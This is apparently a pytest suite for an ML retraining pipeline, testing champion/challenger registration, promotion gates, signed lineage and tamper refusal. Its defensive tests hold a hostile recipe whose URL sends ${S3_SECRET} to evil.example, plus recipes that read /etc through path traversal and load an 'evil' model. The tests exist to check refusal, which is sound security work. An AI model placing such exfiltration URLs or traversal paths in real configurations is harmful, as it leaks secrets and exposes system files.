"""Retraining from a champion to its challenger: new samples, skipped stages, registration and approval."""

import json
import shutil
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from growing_source import draw, prepare
from placed_tasks import table_of
from pydantic import ValidationError

from rubricworks.data.tables import read_rows
from rubricworks.errors import UserError
from rubricworks.evaluation.scoreboard import ModelScores, Scoreboard
from rubricworks.kubeflow.compile import compile_specs, load_pipeline
from rubricworks.kubeflow.planned_cluster import placement_warnings, planned_cluster
from rubricworks.llm.served import ServedModel
from rubricworks.methods.retrain.champion import check_champion, require_admission
from rubricworks.methods.retrain.recipe import RetrainRecipe
from rubricworks.methods.retrain.stages.challenge import Config
from rubricworks.metrics import Interval
from rubricworks.recipe import ClusterConfig
from rubricworks.recipe.files import load_recipe, recipe_path
from rubricworks.runtime.admission import Admission
from rubricworks.runtime.launch import launch
from rubricworks.runtime.serving.identity import served_weights
from rubricworks.tracking import StagedRecipe, TrackingConfig, connect, registry
from rubricworks.tracking.lineage import Lineage, read_lineage

pytest.importorskip("mlflow")

pytestmark = pytest.mark.slow

LOST, WON = ((-0.1, -0.2, 0.0), (0.3, 0.2, 0.4)), ((0.2, 0.1, 0.3), (0.7, 0.6, 0.8))
"""Gain in b-CapScore and win rate, each with its interval."""
GATE = {"b_capscore_gain_low_above": 0.0}


def finished(folder: Path, digest: str) -> Path:
    folder.mkdir(parents=True)
    (folder / "done.json").write_text(json.dumps({"digest": digest}))
    return folder


def policy(folder: Path, weights: str) -> str:
    (finished(folder, weights) / "model").mkdir()
    (folder / "model" / "config.json").write_text(json.dumps({"weights": weights}))
    return str(folder)


def scores(folder: Path, gain: tuple[float, float, float], win: tuple[float, float, float]) -> str:
    finished(folder, folder.name)
    policy = ModelScores(
        model="policy",
        decoding="greedy",
        means={"b_capscore": interval(0.6, 0.55, 0.65), "arena_win": interval(*win)},
        gains={"b_capscore": interval(*gain)},
    )
    base = ModelScores(model="base", decoding="greedy", means={"b_capscore": interval(0.4, 0.35, 0.45)})
    board = Scoreboard(base="base", models=(base, policy), headlines=("b_capscore", "arena_win"))
    (folder / "scores.json").write_text(board.model_dump_json())
    return str(folder)


def interval(value: float, low: float, high: float) -> Interval:
    return Interval(value=value, low=low, high=high, samples=40)


def make_champion(home: Path, *, genrm: str = "", **more: dict) -> None:
    """Version 1 of `captioner`, of a run on 30 images by these further stages, and with this reward model."""
    draw(home / "images", range(30))
    run = home / "runs" / "first"
    stages = {
        "prepare": {"source": str(home / "images"), "held_out": 4},
        "promote": {"model_name": "captioner", "gate": GATE},
        **more,
    }
    config = {**stages["promote"], "recipe": {"name": "mine", "pipeline": "rubicap", "stages": stages}}
    inputs = {
        "samples": prepare(run, home / "images"),
        "policy": policy(home / "champion", "one"),
        "scores": scores(home / "measured", *WON),
        **({"genrm": genrm} if genrm else {}),
    }
    launch("promote", json.dumps(config), str(run), inputs)


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    home = tmp_path_factory.mktemp("template")
    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("MLFLOW_TRACKING_URI", raising=False)
        patch.delenv("MLFLOW_RUN_ID", raising=False)
        make_champion(home)
    return home


@pytest.fixture
def home(template, tmp_path, monkeypatch):
    """The template's registry and images, to be changed; the artifacts of its champion stay where they are."""
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.delenv("MLFLOW_RUN_ID", raising=False)
    monkeypatch.setenv("SOURCE", str(tmp_path / "images"))
    shutil.copytree(template / "images", tmp_path / "images")
    (tmp_path / "runs").mkdir()
    shutil.copy(template / "runs" / "mlflow.db", tmp_path / "runs")
    return tmp_path


def look(home: Path, name: str, required: int, **changes) -> SimpleNamespace:
    """A look for new samples in the home's own images, in a run of this name."""
    handed: dict[str, str] = {}
    run = home / "runs" / name
    config = {
        "model_name": "captioner",
        "needed": required,
        "changes": {"prepare.source": str(home / "images"), **changes},
    }
    out = launch("find_new_samples", json.dumps(config), str(run), {}, output_values=handed)
    summary_file = run / "summary.json"
    outcome = json.loads(summary_file.read_text())["outcome"] if summary_file.exists() else None
    new = json.loads((Path(out) / "found.json").read_text())["new"]
    return SimpleNamespace(run=run, out=out, handed=handed, outcome=outcome, new=new)


def answer(home: Path, looked: SimpleNamespace, measured, **settings) -> dict:
    """Challenge the champion with a policy of the same run."""
    inputs = {
        "found": looked.out,
        "samples": prepare(looked.run, home / "images"),
        "policy": policy(looked.run / "trained", looked.run.name),
        "scores": scores(looked.run / "measured", *measured),
    }
    launch("challenge", json.dumps(settings), str(looked.run), inputs)
    return json.loads((looked.run / "summary.json").read_text())


def connection(home: Path):
    store = connect(TrackingConfig(), home / "runs")
    assert store is not None
    return store


def test_too_little_new_ends_the_run_well_and_says_how_much_is_missing(home):
    moved = home / "images" / "elsewhere"
    moved.mkdir()
    (home / "images" / "0003.png").rename(moved / "3.png")  # known, wherever it lies
    shutil.copy(home / "images" / "0004.png", moved / "twice.png")
    (home / "images" / "broken.png").write_bytes(b"no picture")
    draw(home / "images", range(100, 112))
    looked = look(home, "second", 500)
    assert looked.outcome == "skipped: 12 new samples, 500 needed"
    assert looked.handed["pipeline"] == "none"
    assert not (looked.run / "error.json").exists()


def test_enough_passes_on_the_champions_pipeline_with_the_changes(home):
    draw(home / "images", range(100, 130))
    looked = look(home, "second", 20, **{"prepare.held_out": 6})
    assert looked.handed["pipeline"] == "rubicap"
    stages = json.loads(looked.handed["configs"])["stages"]
    assert stages["prepare"]["held_out"] == 6
    assert stages["prepare"]["source"] == str(home / "images")
    assert looked.outcome is None
    assert looked.new >= 20
    # As a component passes them on: each stage takes its own.
    out = launch("prepare", looked.handed["configs"], str(looked.run), {})
    assert sum(row["split"] == "held_out" for row in read_rows(out, columns=["split"])) == 6


def test_growth_holds_out_nothing_that_the_champion_was_trained_on(template, home):
    draw(home / "images", range(100, 400))
    champion = registry.champion(connection(home), "captioner")
    assert champion is not None
    splits = {key.sample_id: key.split for key in read_lineage(connection(home), champion).samples}
    assert len(splits) == 30
    grown = prepare(home / "runs" / "grown", home / "images")
    held_out = [
        row["sample_id"] for row in read_rows(grown, columns=["sample_id", "split"]) if row["split"] == "held_out"
    ]
    assert len(held_out) == 4
    assert {splits[item] for item in held_out if item in splits} <= {"held_out"}


@pytest.mark.parametrize(
    ("measured", "approval", "standing", "promoted"),
    [
        (WON, "gate", "promoted", True),
        (WON, "person", "waiting", False),
        (LOST, "gate", "not passed", False),
    ],
)
def test_a_challenger_is_registered_and_takes_the_place_only_as_the_policy_says(
    home, measured, approval, standing, promoted
):
    draw(home / "images", range(100, 120))
    decision = answer(home, look(home, "second", 10), measured, approval=approval)
    store = connection(home)
    champion, challenger = registry.champion(store, "captioner"), registry.challenger(store, "captioner")
    assert champion is not None
    assert (champion.version, challenger and challenger.version) == ((2, None) if promoted else (1, 2))
    second = registry.get_version(store, "captioner", 2)
    assert (decision["standing"], second.tags["approval"], second.tags["challenged"]) == (standing, standing, "1")
    assert second.tags["run"] == "second"
    assert second.tags["held_out_known_to_champion"] == "0"
    lineage = read_lineage(store, second)
    assert lineage.recipe.stages["prepare"]["source"] == str(home / "images")
    assert len(lineage.samples) == 50


def test_what_a_challenger_tried_is_not_tried_again_while_the_champion_stays(home):
    draw(home / "images", range(100, 120))
    answer(home, look(home, "second", 10), LOST)
    draw(home / "images", range(120, 123))
    assert look(home, "third", 10).outcome == "skipped: 3 new samples, 10 needed, since version 2 was tried"
    draw(home / "images", range(123, 140))
    assert look(home, "fourth", 10).handed["pipeline"] == "rubicap"


def test_champion_that_changed_meanwhile_is_not_replaced(home):
    draw(home / "images", range(100, 120))
    earlier, later = look(home, "earlier", 10), look(home, "later", 10)
    assert answer(home, later, WON, approval="gate")["standing"] == "promoted"
    decision = answer(home, earlier, WON, approval="gate")
    assert decision["standing"] == "outdated"
    assert "version 2 now" in decision["outcome"]
    champion = registry.champion(connection(home), "captioner")
    assert champion is not None
    assert champion.version == 2


def test_without_a_token_of_a_named_installation_a_challenger_is_not_registered(home, monkeypatch):
    monkeypatch.setenv("RUBRICWORKS_API", "https://platform.example")
    monkeypatch.delenv("RUBRICWORKS_API_TOKEN", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    draw(home / "images", range(100, 120))
    with pytest.raises(UserError, match="there is no token"):
        answer(home, look(home, "second", 10), WON, approval="gate")
    assert registry.challenger(connection(home), "captioner") is None


def test_before_a_run_the_champion_is_asked_for_in_the_words_of_the_stage(home):
    assert check_champion("captioner", TrackingConfig(), home / "runs").champion.version == 1
    with pytest.raises(UserError) as caught:
        check_champion("other", TrackingConfig(), home / "runs")
    with pytest.raises(UserError) as error:
        launch("find_new_samples", json.dumps({"model_name": "other"}), str(home / "runs" / "x"), {})
    assert str(caught.value) == str(error.value)


def test_the_champion_is_fetched_whole_and_what_was_changed_in_its_store_is_refused(home, template):
    draw(home / "images", range(100, 120))
    looked = look(home, "second", 10)
    out = Path(launch("fetch_champion", "{}", str(looked.run), {"found": looked.out}))
    assert json.loads((out / "model" / "config.json").read_text()) == {"weights": "one"}
    stored = next(
        path
        for path in template.rglob("models/*/artifacts/model/config.json")
        if json.loads(path.read_text()) == {"weights": "one"}
    )
    before = stored.read_bytes()
    stored.write_text("{}")
    try:
        shutil.rmtree(out)
        with pytest.raises(UserError, match="is not the one that was registered"):
            launch("fetch_champion", "{}", str(looked.run), {"found": looked.out})
    finally:
        stored.write_bytes(before)


def test_champion_that_the_key_of_this_environment_did_not_sign_is_not_fetched(home, monkeypatch):
    pytest.importorskip("model_signing", reason="not installed: model-signing; install constraints.txt anew (make)")
    draw(home / "images", range(100, 120))
    looked = look(home, "second", 10)
    key = ec.generate_private_key(ec.SECP256R1()).public_key()
    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode()
    monkeypatch.setenv("RUBRICWORKS_SIGNING_KEY", pem)
    with pytest.raises(UserError, match="the model of captioner version 1 has no signature"):
        launch("fetch_champion", "{}", str(looked.run), {"found": looked.out})


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"model_name": "other"}, r"no champion of 'other' in the registry .*\(models there: captioner\)"),
        ({"changes": {"policy.algorithm.steps": 1}}, "write stage.field; the champion's stages are prepare, promote"),
        ({"changes": {"prepare.held_out": 0}}, "prepare.held_out: .*greater than or equal to 1"),
        ({"changes": {"prepare.source": "/nowhere/at/all"}}, "/nowhere/at/all: no such file or folder"),
    ],
)
def test_what_cannot_be_is_said_before_anything_is_made(home, config, message):
    with pytest.raises(UserError, match=message):
        launch("find_new_samples", json.dumps({"model_name": "captioner", **config}), str(home / "runs" / "x"), {})


EVIL = {"committee": {"url": "https://evil.example/${S3_SECRET}", "model": "m", "api_key_env": "OPENAI_API_KEY"}}


def hostile_champion(home: Path, monkeypatch) -> None:
    """A champion whose recipe, as anybody who may write to the registry can put it there, sends secrets to a host."""
    for name in ("MLFLOW_TRACKING_URI", "MLFLOW_RUN_ID"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("S3_SECRET", "the-secret")
    monkeypatch.setenv("OPENAI_API_KEY", "the-key")
    teachers = [EVIL["committee"]]
    make_champion(home, caption_committee={"teachers": teachers})


def test_registry_recipe_reaches_no_host_and_variable_not_admitted(tmp_path, monkeypatch, tell):
    hostile_champion(tmp_path, monkeypatch)
    run = tmp_path / "runs" / "x"
    with pytest.raises(UserError) as refused:
        launch("find_new_samples", json.dumps({"model_name": "captioner"}), str(run), {})
    places = f'places: ["{tmp_path}/images"]'
    admit = f"{{hosts: {{evil.example: [OPENAI_API_KEY, S3_SECRET]}}, {places}}}"
    assert str(refused.value).endswith(f"if you trust it, set new_samples.admit: {admit}")
    told = tell("run", "retrain", "--runs", tmp_path / "runs", "--run", "y")
    assert told.code == 2
    assert str(refused.value) in told.err
    told = tell("run", "retrain", "--runs", tmp_path / "runs", "--run", "y", "--set", f"new_samples.admit={admit}")
    assert "not admitted" not in told.err
    for secret in (b"the-secret", b"the-key"):
        assert not [path for path in tmp_path.rglob("*") if path.is_file() and secret in path.read_bytes()]


@pytest.mark.parametrize(
    ("stages", "needed"),
    [
        ({"prepare": {"source": "/etc"}}, {"places": ["/etc"]}),
        ({"prepare": {"source": "${SOURCE}/../../etc"}}, {"places": ["${SOURCE}/../../etc"]}),
        ({"warm_up": {"student": "evil/model"}}, {"places": ["hf://evil/model"]}),
        (
            {"score": {"scorers": {"benchmarks": [{"set": "rlr3-15", "source": "/tmp/tasks"}]}}},
            {"task_folders": ["/tmp/tasks"]},
        ),
    ],
)
def test_registry_recipe_reads_no_place_and_runs_no_task_not_admitted(stages, needed):
    lineage = Lineage(StagedRecipe(name="mine", pipeline="rubicap", stages=stages), (), signed=False)
    champion = registry.ModelVersion(name="captioner", version=1, source="", run="", tags={})
    require = partial(require_admission, lineage, {}, champion)
    with pytest.raises(UserError, match="reaches what is not admitted"):
        require(Admission(hosts={"api.example": ()}, places=("/data",)))
    if ".." not in str(needed):
        require(Admission.model_validate(needed))
    require_admission(lineage._replace(signed=True), {}, champion, Admission())


def test_own_changes_need_no_admission(tmp_path, monkeypatch):
    hostile_champion(tmp_path, monkeypatch)
    draw(tmp_path / "images", range(100, 103))
    own = {"caption_committee.teachers": [{"url": "https://ours.example/v1", "model": "m", "api_key_env": "OURS"}]}
    assert look(tmp_path, "second", 10, **own).outcome == "skipped: 3 new samples, 10 needed"


def test_recipe_that_was_exchanged_in_the_store_is_refused(home):
    version = registry.champion(connection(home), "captioner")
    stored = Path(urlsplit(version.tags["made_from"]).path) / "recipe.json"
    before = stored.read_bytes()
    stored.write_bytes(before.replace(b"captioner", b"exchanged"))
    try:
        with pytest.raises(UserError, match="what captioner version 1 was made from is not what was registered"):
            look(home, "second", 10)
    finally:
        stored.write_bytes(before)


def test_signed_recipe_needs_no_admission_and_one_of_another_key_is_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "ours")
    hostile_champion(tmp_path, monkeypatch)
    version = registry.champion(connection(tmp_path), "captioner")
    assert read_lineage(connection(tmp_path), version).signed
    assert look(tmp_path, "second", 10).outcome == "skipped: 0 new samples, 10 needed"
    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "theirs")
    with pytest.raises(UserError, match="not signed with the key of RUBRICWORKS_LINEAGE_KEY"):
        look(tmp_path, "third", 10)
    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "ours")
    registry.tag(connection(tmp_path), version, {"made_from_signature": "0" * 64})
    with pytest.raises(UserError, match="not signed with the key of RUBRICWORKS_LINEAGE_KEY"):
        look(tmp_path, "fourth", 10)


def test_unsigned_recipe_is_refused_where_a_key_is_set(home, monkeypatch):
    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "ours")
    with pytest.raises(UserError, match="not signed with the key of RUBRICWORKS_LINEAGE_KEY"):
        look(home, "second", 10)


def sizes_of(recipe) -> dict[str, str]:
    """Stage → workspace in the compiled pipeline, those that differ from the default."""
    spec = compile_specs(load_pipeline(recipe.pipeline), planned_cluster(recipe, recipe.cluster))
    mounts = {
        row["kubernetes"]["podMetadata"]["labels"]["rubricworks.dev/stage"]: row for row in table_of(*spec).values()
    }
    sizes = {stage: mount["kubernetes"]["emptyDirMounts"] for stage, mount in mounts.items()}
    given = {stage: next(mount["sizeLimit"] for mount in size) for stage, size in sizes.items()}
    return {stage: size for stage, size in given.items() if size != "50Gi"}


def test_workspaces_of_a_retraining_are_those_of_the_champions_recipe(tmp_path, monkeypatch):
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    cluster = {"storage": "s3://b", "images": {role: f"registry.example/{role}:1" for role in ("cpu", "trainer")}}
    first = load_recipe(recipe_path("rubicap"), ()).model_copy(
        update={"cluster": ClusterConfig.model_validate(cluster)}
    )
    configs = {stage: json.loads(text) for stage, text in first.stage_json().items()}
    make_champion(tmp_path, **{name: configs[name] for name in ("warm_up", "train_policy")})

    def retraining(uri: str) -> RetrainRecipe:
        data = {"name": "weekly", "pipeline": "retrain", "cluster": {**cluster, "env": {"MLFLOW_TRACKING_URI": uri}}}
        return RetrainRecipe.model_validate(data)

    recipe = retraining(f"sqlite:///{tmp_path}/runs/mlflow.db")
    sizes = sizes_of(recipe)
    assert sizes["train_policy"] == sizes_of(first)["train_policy"]
    assert placement_warnings(recipe) == []
    unknown = retraining(f"sqlite:///{tmp_path}/nowhere.db")
    assert sizes_of(unknown) == {}
    (warning,) = placement_warnings(unknown)
    assert warning.startswith("workspaces have 50Gi: no champion of 'captioner' in the registry at sqlite:///")
    assert not (tmp_path / "nowhere.db").exists()


def test_a_gate_of_its_own_cannot_ask_for_an_audit(home):
    """A retraining has none: the rule would refuse every challenger, at the end of its training."""
    with pytest.raises(ValidationError, match="a retraining has no audit for audit_false_positives_at_most"):
        Config.model_validate({"gate": {"audit_false_positives_at_most": 0.1}})


RECAP = {"captioner": {"serve": {"name": "genrm", "model": {"stage": "train_genrm"}}}}
"""Stage that calls the model that the first run trained."""


@pytest.fixture
def rewarded(tmp_path, monkeypatch) -> Path:
    """A home whose champion was rewarded by a GenRM of its run."""
    for name in ("MLFLOW_TRACKING_URI", "MLFLOW_RUN_ID"):
        monkeypatch.delenv(name, raising=False)
    trained = tmp_path / "runs" / "first" / "train_genrm"
    genrm = policy(trained, "genrm")
    (trained / "model" / "model.safetensors").write_text("weights of the reward model")
    make_champion(tmp_path, genrm=genrm, recap=RECAP)
    return tmp_path


def test_promoted_policy_names_its_reward_model_and_so_does_its_challenger(rewarded):
    store = connection(rewarded)
    champion = registry.champion(store, "captioner")
    assert champion.tags["reward_model"] == "captioner-reward-model/1"
    draw(rewarded / "images", range(100, 120))
    answer(rewarded, look(rewarded, "second", 10), WON, approval="gate")
    assert registry.champion(store, "captioner").version == 2
    assert registry.champion(store, "captioner").tags["reward_model"] == "captioner-reward-model/1"


def test_retraining_serves_the_champions_own_reward_model(rewarded):
    draw(rewarded / "images", range(100, 120))
    looked = look(rewarded, "second", 10)
    recap = json.loads(looked.handed["configs"])["stages"]["recap"]
    out = Path(launch("fetch_champion", "{}", str(looked.run), {"found": looked.out}))
    weights = served_weights(ServedModel(**recap["captioner"]["serve"]), {"genrm": out})
    assert Path(weights.place, "model.safetensors").read_text() == "weights of the reward model"
    registered = registry.get_version(connection(rewarded), "captioner-reward-model", 1)
    assert weights.digest == f"sha256:{registered.tags[registry.DIGEST_TAG]}"


def test_champion_whose_reward_model_was_not_registered_is_refused_in_a_line(tmp_path, monkeypatch):
    for name in ("MLFLOW_TRACKING_URI", "MLFLOW_RUN_ID"):
        monkeypatch.delenv(name, raising=False)
    make_champion(tmp_path, recap=RECAP)
    with pytest.raises(UserError, match="its recipe calls the model of train_genrm, and none was registered") as caught:
        look(tmp_path, "second", 10)
    assert "\n" not in str(caught.value)
